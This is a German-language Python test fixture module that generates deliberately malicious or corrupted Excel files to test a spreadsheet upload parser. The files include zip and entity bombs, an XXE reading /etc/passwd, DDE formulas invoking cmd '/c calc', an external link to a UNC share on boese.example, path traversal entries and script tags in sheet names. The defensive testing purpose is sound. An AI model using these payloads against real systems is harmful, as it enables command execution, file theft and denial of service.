"""Bösartige und kaputte Excel-Dateien (XLSX, XLS)."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable

import msoffcrypto.format.ooxml  # type: ignore[import-untyped]

from tests.hilfen.tabellenbau import (
    BEZIEHUNG,
    HAUPT,
    LISTE,
    PAKET,
    XML,
    archiv,
    archiv_mit_strom,
    blatt_xml,
    buchstaben,
    einfuegen,
    texte_xml,
    xls,
    xlsx,
    xlsx_teile,
    zeilen_xml,
    zelle_xml,
)

Eintrag = tuple[str, str, str, Callable[[], bytes]]
"""Name, ``fehler`` oder ``lesbar``, ein Wort der Meldung (oder eines Hinweises), Inhalt."""

MILLION = 1_048_576
GUT = zeilen_xml(LISTE)
_BOMBE_ENTITAETEN = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
LACHER = f'{XML}<!DOCTYPE x [<!ENTITY l0 "lol">{_BOMBE_ENTITAETEN}]>'
XXE = f'{XML}<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _mit(**mehr: str) -> bytes:
    return xlsx(**mehr)


def _daten(daten: str, **mehr: str) -> bytes:
    return archiv(xlsx_teile(blatt_xml(daten, **mehr)))


def _zusatz(**teile: bytes) -> bytes:
    return archiv(xlsx_teile(blatt_xml(GUT)) | {name.replace("__", "/"): t for name, t in teile.items()})


def _teile(**ersetzt: bytes) -> bytes:
    return archiv(xlsx_teile(blatt_xml(GUT)) | {f"xl/{name}.xml": teil for name, teil in ersetzt.items()})


def _zelle(inhalt: str, angaben: str = "") -> bytes:
    """Die gute Liste und darunter eine einzelne Zelle A5."""
    return _daten(f'{GUT}<row r="5"><c r="A5" {angaben}>{inhalt}</c></row>')


def _million_zeilen() -> bytes:
    return _daten("".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, MILLION + 1)))


def _bis_unten_formatiert() -> bytes:
    leer = "".join(
        f'<row r="{i}" s="1" customFormat="1"><c r="A{i}" s="1"/><c r="B{i}" s="1"/></row>'
        for i in range(5, MILLION + 1)
    )
    return _daten(GUT + leer)


def _spalten(anzahl: int) -> bytes:
    return xlsx([[f"Spalte {i}" for i in range(1, anzahl + 1)], list(range(anzahl))])


def _flache_bombe(angegeben: int | None = None) -> bytes:
    teile = xlsx_teile(blatt_xml(GUT))
    teile.pop("xl/worksheets/sheet1.xml")
    vorn = f'{XML}<worksheet xmlns="{HAUPT}"><sheetData>'.encode()
    return einfuegen(
        teile, archiv_mit_strom("xl/worksheets/sheet1.xml", b" " * (1 << 20), 4000, vorn, angegeben)
    )


def _verschachtelt() -> bytes:
    inhalt = archiv_mit_strom("0.bin", bytes(1 << 20), 1000, b"")
    for _ in range(5):
        inhalt = archiv({f"{i}.zip": inhalt for i in range(10)})
    return inhalt


def _kennwort() -> bytes:
    puffer = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(xlsx())).encrypt("geheim", puffer)
    return puffer.getvalue()


def _zip_kennwort() -> bytes:
    inhalt = bytearray(xlsx())
    for marke, abstand in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        ort = inhalt.find(marke)
        while ort >= 0:
            inhalt[ort + abstand] |= 1
            ort = inhalt.find(marke, ort + 4)
    return bytes(inhalt)


def _verfaelscht() -> bytes:
    inhalt = bytearray(xlsx())
    mitte = inhalt.index(b"xl/worksheets/sheet1.xml") + 60
    inhalt[mitte : mitte + 20] = bytes(20)
    return bytes(inhalt)


def _viele_eintraege() -> bytes:
    return archiv([(f"xl/a{i}", b"") for i in range(12_000)], zipfile.ZIP_STORED)


def _verstaerkt() -> bytes:
    """Ein Text von 9.000 Zeichen, auf den 40.000 Zellen verweisen: 360 MB aus 100 KB."""
    verweise = [
        "".join(f'<c r="{buchstaben(j)}{i}" t="s"><v>0</v></c>' for j in range(1, 101)) for i in range(1, 401)
    ]
    zellen = "".join(f'<row r="{i}">{zeile}</row>' for i, zeile in enumerate(verweise, start=1))
    return archiv(xlsx_teile(blatt_xml(zellen), texte=texte_xml("x" * 9000)))


def _verbunden(*bereiche: str) -> bytes:
    return _mit(
        danach="<mergeCells>" + "".join(f'<mergeCell ref="{b}"/>' for b in bereiche) + "</mergeCells>"
    )


def _iso_streng() -> bytes:
    streng = {
        HAUPT: "http://purl.oclc.org/ooxml/spreadsheetml/main",
        BEZIEHUNG: "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    teile = xlsx_teile(blatt_xml(GUT))
    for name, inhalt in teile.items():
        for alt, neu in streng.items():
            inhalt = inhalt.replace(alt.encode(), neu.encode())
        teile[name] = inhalt
    return archiv(teile)


def _beziehung_hinaus() -> bytes:
    teile = xlsx_teile(blatt_xml(GUT))
    name = "xl/_rels/workbook.xml.rels"
    teile[name] = teile[name].replace(b"worksheets/sheet1.xml", b"../../../../../etc/passwd")
    return archiv(teile)


def _mit_praefix() -> bytes:
    xml = blatt_xml(GUT).decode().replace(f'xmlns="{HAUPT}"', f'xmlns:x="{HAUPT}"')
    for name in ("worksheet", "sheetData", "row", "c", "v", "is", "t"):
        for vorn in ("<", "</"):
            for nach in (" ", ">"):
                xml = xml.replace(f"{vorn}{name}{nach}", f"{vorn}x:{name}{nach}")
    return archiv(xlsx_teile(xml.encode()))


def _ohne_orte() -> bytes:
    zeilen = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{w or "-"}</t></is></c>' for w in zeile) + "</row>"
        for zeile in LISTE
    )
    return _daten(zeilen)


def _xls_satz(art: int, daten: bytes) -> bytes:
    """Setzt hinter den Anfang der Mappe einen Satz; er ersetzt so viele folgende, wie er Platz braucht."""
    inhalt = bytearray(xls())
    ort = inhalt.index(struct.pack("<HH", 0x809, 16)) + 20
    satz = struct.pack("<HH", art, len(daten)) + daten
    ende = ort
    while (frei := ende - ort - len(satz)) != 0 and frei < 4:
        ende += 4 + struct.unpack_from("<H", inhalt, ende + 2)[0]
    fuellung = struct.pack("<HH", 0x1234, frei - 4) + bytes(frei - 4) if frei else b""
    inhalt[ort:ende] = satz + fuellung
    return bytes(inhalt)


def _xls_kreis() -> bytes:
    """Der erste FAT-Sektor verweist überall auf sich selbst."""
    inhalt = bytearray(xls())
    fat = struct.unpack_from("<I", inhalt, 76)[0]
    ort = (fat + 1) * 512
    inhalt[ort : ort + 512] = struct.pack("<128I", *range(128))
    return bytes(inhalt)


def _zerhackt(inhalt: bytes, startwert: int) -> bytes:
    """Jedes hundertste Byte hinter dem Kopf ist zufällig (fester Startwert)."""
    wuerfel = random.Random(startwert)
    neu = bytearray(inhalt)
    for ort in range(600, len(neu), 100):
        neu[ort] = wuerfel.randrange(256)
    return bytes(neu)


def _makro() -> bytes:
    return _zusatz(**{"xl__vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})


def _extern() -> bytes:
    link = (
        f'{XML}<externalLink xmlns="{HAUPT}"><ddeLink xmlns:r="{BEZIEHUNG}" ddeService="cmd" '
        'ddeTopic="/c calc"/></externalLink>'
    )
    ziel = (
        f'{XML}<Relationships xmlns="{PAKET}"><Relationship Id="r1" Type="{BEZIEHUNG}/externalLinkPath" '
        'Target="file:///\\\\boese.example\\c$\\x.xlsx" TargetMode="External"/></Relationships>'
    )
    return _zusatz(
        **{
            "xl__externalLinks__externalLink1.xml": link.encode(),
            "xl__externalLinks___rels/externalLink1.xml.rels": ziel.encode(),
        }
    )


EXCEL: tuple[Eintrag, ...] = (
    ("bombe_flach.xlsx", "fehler", "entpackt", _flache_bombe),
    ("bombe_mit_falscher_groesse.xlsx", "fehler", "", lambda: _flache_bombe(1000)),
    ("bombe_verschachtelt.xlsx", "fehler", "Archiv", _verschachtelt),
    ("makros.xlsm", "lesbar", "Makros", _makro),
    ("externe_verweise.xlsx", "lesbar", "verweist", _extern),
    ("formeln.xlsx", "lesbar", "Formel", lambda: _zelle("<f>1+1</f><v>2</v>")),
    ("formel_ohne_wert.xlsx", "lesbar", "kein Ergebnis", lambda: _zelle("<f>1+1</f>")),
    ("dde.xlsx", "lesbar", "DDE", lambda: _zelle("<f>cmd|'/c calc'!A0</f><v>0</v>")),
    ("million_zeilen.xlsx", "fehler", "20.000", _million_zeilen),
    ("bis_unten_formatiert.xlsx", "lesbar", "", _bis_unten_formatiert),
    ("fuenftausend_spalten.xlsx", "fehler", "200 Spalten", lambda: _spalten(5000)),
    ("abgeschnitten.xlsx", "fehler", "beschädigt", lambda: xlsx()[:1500]),
    ("ohne_verzeichnis.xlsx", "fehler", "beschädigt", lambda: xlsx()[: xlsx().index(b"PK\x01\x02")]),
    ("verfaelscht.xlsx", "fehler", "beschädigt", _verfaelscht),
    ("nur_zip_ende.xlsx", "fehler", "Archiv", lambda: archiv({})),
    (
        "pfade_nach_oben.xlsx",
        "lesbar",
        "",
        lambda: _zusatz(**{"..__..__..__etc__passwd": b"x", "__absolut": b"x", "C:\\Windows\\x": b"x"}),
    ),
    (
        "teil_doppelt.xlsx",
        "fehler",
        "zweimal",
        lambda: archiv([*xlsx_teile(blatt_xml(GUT)).items(), ("xl/WORKBOOK.xml", b"<x/>")]),
    ),
    ("kennwort.xlsx", "fehler", "Kennwort", _kennwort),
    ("zip_kennwort.xlsx", "fehler", "Kennwort", _zip_kennwort),
    ("viele_eintraege.xlsx", "fehler", "10.000 Teilen", _viele_eintraege),
    (
        "unuebliche_packung.xlsx",
        "fehler",
        "gepackt",
        lambda: archiv(xlsx_teile(blatt_xml(GUT)), zipfile.ZIP_LZMA),
    ),
    ("xxe.xlsx", "fehler", "DTD", lambda: _daten(f"{GUT}", vorspann=XXE)),
    ("lacher_im_blatt.xlsx", "fehler", "DTD", lambda: _daten(GUT, vorspann=LACHER)),
    (
        "lacher_in_texten.xlsx",
        "fehler",
        "DTD",
        lambda: archiv(xlsx_teile(blatt_xml(GUT), texte=texte_xml("&l9;", vorspann=LACHER))),
    ),
    ("lacher_in_mappe.xlsx", "fehler", "DTD", lambda: _teile(workbook=f"{LACHER}<workbook/>".encode())),
    ("lacher_in_formaten.xlsx", "fehler", "DTD", lambda: _teile(styles=f"{LACHER}<styleSheet/>".encode())),
    ("text_fehlt.xlsx", "fehler", "", lambda: _zelle("<v>99999999</v>", 't="s"')),
    (
        "negative_zeile.xlsx",
        "fehler",
        "beschädigt",
        lambda: _daten('<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    ),
    (
        "riesige_zeile.xlsx",
        "fehler",
        "beschädigt",
        lambda: _daten('<row r="9999999999"/><row r="9999999999">x</row>'),
    ),
    ("zeile_null.xlsx", "fehler", "beschädigt", lambda: _daten('<row r="0"><c r="A0"><v>1</v></c></row>')),
    (
        "zeilen_rueckwaerts.xlsx",
        "lesbar",
        "",
        lambda: _daten("".join(zeilen_xml([LISTE[i]], ab=i + 1) for i in (0, 3, 2, 1))),
    ),
    ("zelle_doppelt.xlsx", "lesbar", "", lambda: _daten(GUT + GUT)),
    (
        "weit_verstreut.xlsx",
        "fehler",
        "200 Spalten",
        lambda: _daten(f'{GUT}<row r="{MILLION}"><c r="XFD{MILLION}"><v>1</v></c></row>'),
    ),
    (
        "weit_unten.xlsx",
        "fehler",
        "Zeile 100.000",
        lambda: _daten(f'{GUT}<row r="{MILLION}">{zelle_xml(MILLION, 1, "x")}</row>'),
    ),
    (
        "grosse_flaeche.xlsx",
        "fehler",
        "Bereich",
        lambda: _daten(f'{GUT}<row r="99999"><c r="GR99999"><v>1</v></c></row>'),
    ),
    ("langer_text.xlsx", "fehler", "10.000", lambda: xlsx([*LISTE, ["x" * 50_000]])),
    ("verstaerkter_text.xlsx", "fehler", "zusammen länger", _verstaerkt),
    ("alles_verbunden.xlsx", "lesbar", "", lambda: _verbunden(f"A1:XFD{MILLION}")),
    ("verbund_ueberdeckt.xlsx", "fehler", "überdecken", lambda: _verbunden(*["A1:F4"] * 190_000)),
    ("falscher_verbund.xlsx", "fehler", "beschädigt", lambda: _verbunden("A0:ZZZZ9")),
    (
        "einundzwanzig_blaetter.xlsx",
        "fehler",
        "Tabellenblätter",
        lambda: archiv(xlsx_teile(*[blatt_xml(GUT)] * 21)),
    ),
    ("ohne_blatt.xlsx", "fehler", "Tabellenblatt", lambda: archiv(xlsx_teile())),
    ("leere_blaetter.xlsx", "fehler", "ausgefüllte", lambda: archiv(xlsx_teile(*[blatt_xml("")] * 3))),
    ("nur_leerzeichen.xlsx", "fehler", "ausgefüllte", lambda: xlsx([[" ", "\u200b"], ["\t"]])),
    ("tief_verschachtelt.xlsx", "fehler", "", lambda: _daten("<a>" * 1_000_000)),
    (
        "viele_attribute.xlsx",
        "lesbar",
        "",
        lambda: _mit(davor="<a " + " ".join(f'a{i}=""' for i in range(50_000)) + "/>"),
    ),
    ("verweis_hinaus.xlsx", "fehler", "beschädigt", _beziehung_hinaus),
    (
        "blattnamen.xlsx",
        "lesbar",
        "",
        lambda: archiv(
            xlsx_teile(
                blatt_xml(GUT), blatt_xml(GUT), namen=["<script>alert(1)</script>", "../../" + "x" * 500]
            )
        ),
    ),
    (
        "unzahlen.xlsx",
        "lesbar",
        "",
        lambda: _daten(
            f'{GUT}<row r="5"><c r="A5"><v>NaN</v></c><c r="B5"><v>1e999</v></c><c r="C5" s="1"><v>-5</v></c>'
            '<c r="D5" s="1"><v>1e300</v></c><c r="E5" t="e"><v>#REF!</v></c>'
            '<c r="F5" s="99"><v>1</v></c></row>'
        ),
    ),
    ("unzahl.xlsx", "lesbar", "", lambda: _zelle("<v>vierzehn</v>")),
    ("mit_praefix.xlsx", "lesbar", "", _mit_praefix),
    ("iso_streng.xlsx", "lesbar", "", _iso_streng),
    ("ohne_orte.xlsx", "lesbar", "", _ohne_orte),
    (
        "blatt_in_utf_16.xlsx",
        "fehler",
        "beschädigt",
        lambda: archiv(xlsx_teile(blatt_xml(GUT).decode().replace("UTF-8", "UTF-16").encode("utf-16"))),
    ),
    (
        "unbekannter_zeichensatz.xlsx",
        "fehler",
        "beschädigt",
        lambda: archiv(xlsx_teile(blatt_xml(GUT, vorspann=XML.replace("UTF-8", "UTF-1048577")))),
    ),
    ("xls_abgeschnitten.xls", "fehler", "beschädigt", lambda: xls()[:3000]),
    ("xls_kreis.xls", "fehler", "beschädigt", _xls_kreis),
    ("xls_zerhackt.xls", "fehler", "", lambda: _zerhackt(xls(), 5)),
    ("xls_kennwort.xls", "fehler", "Kennwort", lambda: _xls_satz(0x2F, bytes(6))),
    ("xls_nur_kopf.xls", "fehler", "beschädigt", lambda: xls()[:512]),
)
